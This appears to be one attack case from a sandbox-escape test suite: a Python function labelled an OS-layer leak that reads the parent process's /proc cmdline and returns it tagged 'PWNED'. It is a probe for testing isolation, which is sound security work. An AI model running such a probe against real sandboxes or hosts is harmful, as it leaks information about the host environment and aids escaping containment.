# attack: read-the-zygotes-command-line
# layer: os (assumes the language layer is already broken: run as plain Python)
# class: leak
# success: /proc of its parent
import os
def run():
    return "PWNED " + repr(open("/proc/%d/cmdline" % os.getppid(), "rb").read())
